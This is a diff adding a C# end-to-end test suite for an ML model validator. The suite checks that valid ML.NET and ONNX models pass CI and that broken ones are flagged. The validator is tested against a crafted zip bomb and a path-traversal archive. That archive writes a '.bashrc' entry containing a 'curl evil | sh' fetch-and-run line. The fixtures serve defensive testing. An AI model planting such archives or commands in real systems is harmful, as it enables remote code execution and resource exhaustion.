@@ -1,0 +1,188 @@
+using System;
+using System.Globalization;
+using System.IO;
+using System.IO.Compression;
+using System.Linq;
+using Microsoft.ML;
+using Microsoft.ML.Data;
+using MlopsGuard.EndToEnd.Tests.Infrastructure;
+using Xunit;
+
+namespace MlopsGuard.EndToEnd.Tests
+{
+    /// <summary>
+    /// Model validation in real builds (MLG4003, MLG4004, MLG4006): a model trained on the shared heart data set,
+    /// saved by ML.NET and exported to ONNX, declared with its schema and gates in a project that uses the package.
+    /// </summary>
+    [Collection(EndToEndCollection.Name)]
+    public class ModelValidationTests
+    {
+        private static readonly Lazy<HeartModels> Models = new(() => new HeartModels());
+
+        private readonly PackageFeed _feed;
+
+        public ModelValidationTests(PackageFeed feed) => _feed = feed;
+
+        [Fact]
+        public void Valid_models_pass_in_ci_and_their_schema_reaches_the_analyzers()
+        {
+            var models = Models.Value;
+            var project = TestProject.Create(_feed, "valid-models", $@"<ItemGroup>
+    <MlModel Include=""models/heart.zip"" Name=""heart"" MetricsFile=""models/metrics.json"" Inputs=""Features:Single[13];Label:Boolean"" />
+    <MlModel Include=""models/heart.onnx"" Name=""heart-onnx"" Inputs=""Features:Single[-1,13];Label:Boolean[-1,1]""
+             Outputs=""Features.output:Single;Label.output:Boolean;PredictedLabel.output:Boolean;Score.output:Single;Probability.output:Single"" />
+    <MlMetricGate Include=""Accuracy"" Model=""heart"" Min=""{(models.Accuracy - 0.05).ToString(CultureInfo.InvariantCulture)}"" />
+    <MlMetricGate Include=""test.AreaUnderRocCurve"" Model=""heart"" Min=""0"" Max=""1"" />
+  </ItemGroup>", withMlNet: false);
+            project.WriteFile("Program.cs", "System.Console.WriteLine(1);\n");
+            models.CopyTo(project.Directory, "heart.zip", "heart.onnx", "metrics.json");
+
+            var ci = project.Build("-p:ContinuousIntegrationBuild=true");
+            Assert.True(ci.Succeeded, ci.ToString());
+            Assert.Empty(ci.MlopsGuard);
+
+            var summary = Assert.Single(Directory.GetFiles(Path.Combine(project.Directory, "obj"), "mlops.validation.json", SearchOption.AllDirectories));
+            var json = File.ReadAllText(summary);
+            Assert.Contains("\"format\": \"mlnet\"", json, StringComparison.Ordinal);
+            Assert.Contains("\"format\": \"onnx\"", json, StringComparison.Ordinal);
+
+            // The next build skips validation (nothing changed) and its compilation hands the real schema to the
+            // analyzers through the artifacts file.
+            var again = project.Build("-p:ContinuousIntegrationBuild=true", "-v:d");
+            Assert.True(again.Succeeded, again.ToString());
+            Assert.Contains("Skipping target \"MlopsValidateModels\" because all output files are up-to-date", again.Output, StringComparison.Ordinal);
+            var artifacts = File.ReadAllLines(Assert.Single(Directory.GetFiles(Path.Combine(project.Directory, "obj"), "MlopsGuard.Artifacts.txt", SearchOption.AllDirectories)));
+            Assert.Contains("schema\theart\tinput\tFeatures\tSingle\t[13]", artifacts);
+            Assert.Contains("schema\theart-onnx\toutput\tScore.output\tSingle\t[-1,1]", artifacts);
+        }
+
+        [Fact]
+        public void Broken_models_warn_in_a_local_build_and_fail_the_ci_build()
+        {
+            var models = Models.Value;
+            var project = TestProject.Create(_feed, "broken-models", @"<ItemGroup>
+    <MlModel Include=""models/truncated.onnx"" />
+    <MlModel Include=""models/text.onnx"" />
+    <MlModel Include=""models/bomb.zip"" />
+    <MlModel Include=""models/traversal.zip"" />
+    <MlModel Include=""models/heart.zip"" Name=""heart"" MetricsFile=""models/metrics.json"" />
+    <MlModel Include=""models/heart.onnx"" Name=""heart-onnx"" Inputs=""Features:Single[-1,13];Label:Boolean;Age:Single"" />
+    <MlMetricGate Include=""Accuracy"" Model=""heart"" Min=""1.01"" />
+  </ItemGroup>", withMlNet: false);
+            project.WriteFile("Program.cs", "System.Console.WriteLine(1);\n");
+            models.CopyTo(project.Directory, "heart.zip", "heart.onnx", "metrics.json");
+            var onnx = File.ReadAllBytes(Path.Combine(models.Directory, "heart.onnx"));
+            File.WriteAllBytes(Path.Combine(project.Directory, "models", "truncated.onnx"), onnx.AsSpan(0, onnx.Length / 2).ToArray());
+            project.WriteFile("models/text.onnx", "version https://git-lfs.github.com/spec/v1\n");
+            File.WriteAllBytes(Path.Combine(project.Directory, "models", "bomb.zip"), HeartModels.Bomb());
+            File.WriteAllBytes(Path.Combine(project.Directory, "models", "traversal.zip"), HeartModels.Traversal());
+
+            var local = project.Build();
+            Assert.True(local.Succeeded, local.ToString());
+            AssertFindings(local, "warning");
+
+            // The findings are repeated by the next build (validation stays out of date until they are fixed), as errors in CI.
+            var ci = project.Build("-p:ContinuousIntegrationBuild=true");
+            Assert.False(ci.Succeeded, ci.ToString());
+            AssertFindings(ci, "error");
+        }
+
+        private static void AssertFindings(BuildResult result, string severity)
+        {
+            var findings = result.MlopsGuard.Where(d => d.Severity == severity).ToList();
+            Assert.Equal(4, findings.Count(d => d.Id == "MLG4003"));
+            Assert.Contains(findings, d => d.Id == "MLG4003" && d.File.EndsWith("truncated.onnx", StringComparison.Ordinal));
+            Assert.Contains(findings, d => d.Id == "MLG4003" && d.File.EndsWith("text.onnx", StringComparison.Ordinal) && d.Message.Contains("text file", StringComparison.Ordinal));
+            Assert.Contains(findings, d => d.Id == "MLG4003" && d.File.EndsWith("bomb.zip", StringComparison.Ordinal) && d.Message.Contains("zip bomb", StringComparison.Ordinal));
+            Assert.Contains(findings, d => d.Id == "MLG4003" && d.File.EndsWith("traversal.zip", StringComparison.Ordinal) && d.Message.Contains("path traversal", StringComparison.Ordinal));
+            Assert.Contains(findings, d => d.Id == "MLG4004" && d.Message.Contains("below the minimum 1.01", StringComparison.Ordinal));
+            Assert.Contains(findings, d => d.Id == "MLG4006" && d.Message.Contains("declared input 'Age' is missing", StringComparison.Ordinal));
+            Assert.Equal(6, findings.Count);
+        }
+
+        /// <summary>A binary classifier of the heart data set, as an ML.NET zip and an ONNX export, with its test metrics.</summary>
+        private sealed class HeartModels
+        {
+            public HeartModels()
+            {
+                Directory = Path.Combine(Path.GetTempPath(), "mlopsguard-e2e-models-" + Environment.ProcessId);
+                System.IO.Directory.CreateDirectory(Directory);
+                var ml = new MLContext(seed: 11);
+                var training = ml.Data.LoadFromTextFile<HeartRow>(Path.Combine(TestEnvironment.SharedData, "HeartTraining.csv"), separatorChar: ';');
+                var test = ml.Data.LoadFromTextFile<HeartRow>(Path.Combine(TestEnvironment.SharedData, "HeartTest.csv"), separatorChar: ';');
+                var model = ml.Transforms.NormalizeMinMax("Features")
+                    .Append(ml.BinaryClassification.Trainers.SdcaLogisticRegression())
+                    .Fit(training);
+                ml.Model.Save(model, training.Schema, Path.Combine(Directory, "heart.zip"));
+                using (var stream = File.Create(Path.Combine(Directory, "heart.onnx")))
+                {
+                    ml.Model.ConvertToOnnx(model, training, stream);
+                }
+
+                var metrics = ml.BinaryClassification.Evaluate(model.Transform(test));
+                Accuracy = metrics.Accuracy;
+                File.WriteAllText(Path.Combine(Directory, "metrics.json"), FormattableString.Invariant(
+                    $"{{ \"test\": {{ \"Accuracy\": {metrics.Accuracy}, \"AreaUnderRocCurve\": {metrics.AreaUnderRocCurve} }} }}"));
+            }
+
+            public string Directory { get; }
+
+            public double Accuracy { get; }
+
+            public void CopyTo(string projectDirectory, params string[] files)
+            {
+                System.IO.Directory.CreateDirectory(Path.Combine(projectDirectory, "models"));
+                foreach (var file in files)
+                {
+                    File.Copy(Path.Combine(Directory, file), Path.Combine(projectDirectory, "models", file), overwrite: true);
+                }
+            }
+
+            /// <summary>Entries of zeros whose headers declare almost 4 GiB each.</summary>
+            public static byte[] Bomb()
+            {
+                var zip = Zip(Enumerable.Range(0, 4).Select(i => ($"TransformerChain/Transform_{i}/Model.key", new byte[1 << 20])).ToArray());
+                for (var i = 0; i + 46 <= zip.Length; i++)
+                {
+                    var signature = BitConverter.ToUInt32(zip, i);
+                    var offset = signature == 0x04034b50 ? 22 : signature == 0x02014b50 ? 24 : -1;
+                    if (offset > 0)
+                    {
+                        BitConverter.GetBytes(0xF0000000u).CopyTo(zip, i + offset);
+                    }
+                }
+
+                return zip;
+            }
+
+            public static byte[] Traversal() => Zip(
+                ("TransformerChain/Model.key", System.Text.Encoding.ASCII.GetBytes("ML\0MODEL")),
+                ("../../../.bashrc", System.Text.Encoding.ASCII.GetBytes("curl evil | sh")));
+
+            private static byte[] Zip(params (string Name, byte[] Content)[] entries)
+            {
+                using var stream = new MemoryStream();
+                using (var zip = new ZipArchive(stream, ZipArchiveMode.Create, leaveOpen: true))
+                {
+                    foreach (var (name, content) in entries)
+                    {
+                        using var entry = zip.CreateEntry(name, CompressionLevel.Optimal).Open();
+                        entry.Write(content, 0, content.Length);
+                    }
+                }
+
+                return stream.ToArray();
+            }
+        }
+
+        public sealed class HeartRow
+        {
+            [LoadColumn(0, 12)]
+            [VectorType(13)]
+            public float[] Features { get; set; } = Array.Empty<float>();
+
+            [LoadColumn(13)]
+            public bool Label { get; set; }
+        }
+    }
+}
